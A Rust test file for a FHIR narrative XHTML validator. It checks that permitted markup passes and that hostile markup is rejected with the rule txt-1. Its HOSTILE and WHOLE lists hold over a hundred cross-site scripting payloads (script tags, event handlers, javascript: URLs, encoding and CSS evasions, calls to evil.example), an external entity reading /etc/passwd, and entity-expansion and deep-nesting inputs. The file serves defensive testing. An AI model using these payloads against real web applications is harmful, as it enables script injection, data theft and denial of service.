use super::*;
use serde_json::json;

fn div(inside: &str) -> String {
    format!("<div xmlns=\"http://www.w3.org/1999/xhtml\">{inside}</div>")
}

#[test]
fn what_r4_allows_in_a_narrative_passes() {
    let text = r##"
        <h1>Summary</h1><p class="x" title="t">Text with <b>weight</b>, <i>slope</i> and &lt;script&gt; as text &#160; &amp;</p>
        <!-- a remark -->
        <p style="margin-left: 1em; color: #f00; background-color: rgb(1, 2, 3); font-family: 'Arial', sans-serif">styled</p>
        <a name="top"/><a href="#top">up</a> <a href="Patient/1">record</a> <a href="https://example.org/x?a=b#c">page</a>
        <a href="mailto:a@example.org">mail</a> <a href="tel:+4912">call</a>
        <img src="#pic1" alt="a picture"/><img src="data:image/png;base64,iVBORw0KGgo=" width="1"/>
        <table border="1" cellpadding="2"><thead><tr><th scope="col">a</th></tr></thead><tbody><tr><td colspan="2">1</td></tr></tbody></table>
        <ul><li xml:lang="de">eins</li></ul><pre>x</pre><br/><hr/>"##;
    assert_eq!(check(&div(text)), Ok(()));
    assert_eq!(check(&div("<img src=\"#p\"/>")), Ok(()));
    assert_eq!(
        check("<h:div xmlns:h=\"http://www.w3.org/1999/xhtml\"><h:p>x</h:p></h:div>"),
        Ok(())
    );
}

/// Each one alone, and inside a paragraph that would be fine.
#[test]
fn hostile_narratives_are_refused() {
    let inside = HOSTILE.lines().map(str::trim).filter(|l| !l.is_empty());
    let mut tried = 0;
    for hostile in inside {
        for text in [
            div(hostile),
            div(&format!("<p>before</p><table><tr><td>{hostile}</td></tr></table>")),
        ] {
            assert!(check(&text).is_err(), "{text}");
        }
        tried += 1;
    }
    assert!(tried >= 100, "{tried}");
    for whole in WHOLE.lines().map(str::trim).filter(|l| !l.is_empty()) {
        assert!(check(whole).is_err(), "{whole}");
    }
    assert!(check(&div(&format!("{}x{}", "<b>".repeat(101), "</b>".repeat(101)))).is_err());
    assert!(check(&div(&"<br/>".repeat(30_000))).is_err());
    // Far deeper than any stack would stand.
    assert!(check(&div(&format!("{}x{}", "<b>".repeat(100_000), "</b>".repeat(100_000)))).is_err());
}

#[test]
fn a_refusal_names_the_element_and_the_rule() {
    let patient = json!({
        "resourceType": "Patient",
        "text": {"status": "generated", "div": div("<script>alert(1)</script>")},
        "contained": [{"resourceType": "Organization", "id": "o", "name": "O",
            "text": {"status": "generated", "div": div("<p onclick=\"x()\">x</p>")}}],
    });
    let issues = crate::validate::resource(&patient);
    let found: Vec<_> = issues.iter().map(|i| (i.expression.as_str(), i.code)).collect();
    assert_eq!(
        found,
        [
            ("Patient.text.div", "invariant"),
            ("Patient.contained[0].text.div", "invariant"),
        ]
    );
    assert!(issues.iter().all(|i| i.diagnostics.starts_with("txt-1")));
}

/// Whole values that are no narrative.
const WHOLE: &str = r#"
just text
<p xmlns="http://www.w3.org/1999/xhtml">x</p>
<div>no namespace</div>
<div xmlns="http://www.w3.org/2000/svg">x</div>
<DIV xmlns="http://www.w3.org/1999/xhtml">x</DIV>
<div xmlns="http://www.w3.org/1999/xhtml"></div>
<div xmlns="http://www.w3.org/1999/xhtml">  <p> </p> </div>
<div xmlns="http://www.w3.org/1999/xhtml">x</div><script>alert(1)</script>
<div xmlns="http://www.w3.org/1999/xhtml">x</div><!-- behind -->
<?xml version="1.0"?><?xml-stylesheet href="javascript:alert(1)"?><div xmlns="http://www.w3.org/1999/xhtml">x</div>
<!DOCTYPE div [<!ENTITY x SYSTEM "file:///etc/passwd">]><div xmlns="http://www.w3.org/1999/xhtml">&x;</div>
<!DOCTYPE div [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><div xmlns="http://www.w3.org/1999/xhtml">&b;</div>
<html xmlns="http://www.w3.org/1999/xhtml"><body><div>x</div></body></html>
<div xmlns="http://www.w3.org/1999/xhtml" onload="alert(1)">x</div>
<div xmlns="http://www.w3.org/1999/xhtml">unclosed
"#;

/// The kinds of the well-known collections of cross-site scripting: elements, handlers, schemes, styles, foreign
/// namespaces, broken markup, encodings.
const HOSTILE: &str = r##"
<script>alert(1)</script>
<script src="https://evil.example/x.js"/>
<SCRIPT>alert(1)</SCRIPT>
<script type="text/plain">x</script>
<scr<script>ipt>alert(1)</scr</script>ipt>
<style>body{background:url(javascript:alert(1))}</style>
<style>@import 'https://evil.example/x.css';</style>
<link rel="stylesheet" href="https://evil.example/x.css"/>
<base href="https://evil.example/"/>
<meta http-equiv="refresh" content="0;url=javascript:alert(1)"/>
<iframe src="javascript:alert(1)"/>
<iframe srcdoc="x">x</iframe>
<frame src="x"/>
<frameset><frame src="x"/></frameset>
<object data="javascript:alert(1)">x</object>
<object type="text/html" data="x">x</object>
<embed src="javascript:alert(1)"/>
<applet code="x">x</applet>
<param name="x" value="y"/>
<form action="https://evil.example"><b>x</b></form>
<input onfocus="alert(1)" autofocus="autofocus"/>
<button onclick="alert(1)">x</button>
<select><option>x</option></select>
<textarea>x</textarea>
<isindex action="javascript:alert(1)"/>
<keygen autofocus="x" onfocus="alert(1)"/>
<marquee onstart="alert(1)">x</marquee>
<bgsound src="javascript:alert(1)"/>
<layer src="https://evil.example">x</layer>
<ilayer src="x">x</ilayer>
<xml id="x">x</xml>
<video src="x" onerror="alert(1)"/>
<video><source onerror="alert(1)"/></video>
<audio src="x" onerror="alert(1)"/>
<picture><source srcset="x"/></picture>
<details open="open" ontoggle="alert(1)">x</details>
<dialog open="open">x</dialog>
<template><b>x</b></template>
<noscript><p title="x">x</p></noscript>
<noembed>x</noembed>
<noframes>x</noframes>
<plaintext>x</plaintext>
<xmp>x</xmp>
<listing>x</listing>
<title>x</title>
<body onload="alert(1)">x</body>
<head>x</head>
<html>x</html>
<svg onload="alert(1)"/>
<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>
<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>
<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><b>x</b></foreignObject></svg>
<svg xmlns="http://www.w3.org/2000/svg"><a xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="javascript:alert(1)">x</a></svg>
<svg xmlns="http://www.w3.org/2000/svg"><animate attributeName="href" values="javascript:alert(1)"/></svg>
<svg xmlns="http://www.w3.org/2000/svg"><use href="data:image/svg+xml,x"/></svg>
<math xmlns="http://www.w3.org/1998/Math/MathML"><mtext>x</mtext></math>
<math href="javascript:alert(1)">x</math>
<b xmlns="urn:other">x</b>
<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>
<slot name="x"/>
<my-element>x</my-element>
<map name="x"><area href="javascript:alert(1)"/></map>
<portal src="https://evil.example"/>
<p onclick="alert(1)">x</p>
<p ONCLICK="alert(1)">x</p>
<p onmouseover="alert(1)">x</p>
<p onpointerenter="alert(1)">x</p>
<p onanimationstart="alert(1)">x</p>
<p onwebkittransitionend="alert(1)">x</p>
<p onbeforescriptexecute="alert(1)">x</p>
<p onx="alert(1)">x</p>
<img src="#p" onerror="alert(1)"/>
<img src="x" onerror="alert(1)"/>
<img src="javascript:alert(1)"/>
<img src="https://evil.example/pixel.gif"/>
<img src="//evil.example/pixel.gif"/>
<img src="pixel.gif"/>
<img src="data:image/svg+xml;base64,PHN2Zy8+"/>
<img src="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;"/>
<img src="data:image/png,&lt;svg/&gt;"/>
<img srcset="https://evil.example/x 1x" src="#p"/>
<img lowsrc="javascript:alert(1)" src="#p"/>
<img dynsrc="javascript:alert(1)" src="#p"/>
<img src="#p" usemap="#m"/>
<table background="javascript:alert(1)"><tr><td>x</td></tr></table>
<a href="javascript:alert(1)">x</a>
<a href="JaVaScRiPt:alert(1)">x</a>
<a href="java&#9;script:alert(1)">x</a>
<a href="java&#10;script:alert(1)">x</a>
<a href="&#1;javascript:alert(1)">x</a>
<a href=" javascript:alert(1)">x</a>
<a href="&#x6A;avascript:alert(1)">x</a>
<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>
<a href="javascript&#58;alert(1)">x</a>
<a href="vbscript:msgbox(1)">x</a>
<a href="livescript:alert(1)">x</a>
<a href="data:text/html,x">x</a>
<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>
<a href="blob:https://x/1">x</a>
<a href="file:///etc/passwd">x</a>
<a href="filesystem:x">x</a>
<a href="view-source:x">x</a>
<a href="feed:javascript:alert(1)">x</a>
<a href="//evil.example/">x</a>
<a href="\\evil.example\x">x</a>
<a href="https:\\evil.example">x</a>
<a href="#" target="_blank">x</a>
<a href="#" ping="https://evil.example">x</a>
<a href="#" download="x">x</a>
<a href="#" formaction="javascript:alert(1)">x</a>
<a href="#" xlink:href="javascript:alert(1)">x</a>
<blockquote cite="javascript:alert(1)">x</blockquote>
<p style="background:url(https://evil.example/x)">x</p>
<p style="background-image: url('javascript:alert(1)')">x</p>
<p style="color: url(x)">x</p>
<p style="width: expression(alert(1))">x</p>
<p style="color: exp/**/ression(alert(1))">x</p>
<p style="color: \75rl(x)">x</p>
<p style="-moz-binding: url(x)">x</p>
<p style="behavior: url(x)">x</p>
<p style="position: fixed; top: 0; left: 0">x</p>
<p style="@import 'x'">x</p>
<p style="color: var(--x)">x</p>
<p style="font-family: 'x'; src: url(x)">x</p>
<p style="list-style-image: url(x)">x</p>
<p style="content: attr(x)">x</p>
<p style="no declaration">x</p>
<p contenteditable="true">x</p>
<p draggable="true" ondrag="x()">x</p>
<p is="x-y">x</p>
<p srcdoc="x">x</p>
<p action="x">x</p>
<p http-equiv="x">x</p>
<p xml:base="javascript:alert(1)">x</p>
<p data-x="{{constructor.constructor('alert(1)')()}}">x</p>
<p ng-app="x">x</p>
<p itemtype="x">x</p>
<!--><img src=x onerror=alert(1)>-->
<!-- a --!><script>alert(1)</script> -->
<!-- <script>alert(1)</script> -->
<?php x ?>
<?xml-stylesheet href="x"?>
<!DOCTYPE html>
<![CDATA[<script>alert(1)</script>]]><script/>
&nbsp;
&unknown;
&#0;
&#x0;
<p
<p title="x>y</p>
<p title=x>y</p>
<p title="<b>">y</p>
<p a="1" a="2">y</p>
</div><script>alert(1)</script><div>
<b></i></b>
<br>
<img src=x onerror=alert(1)//
"##;
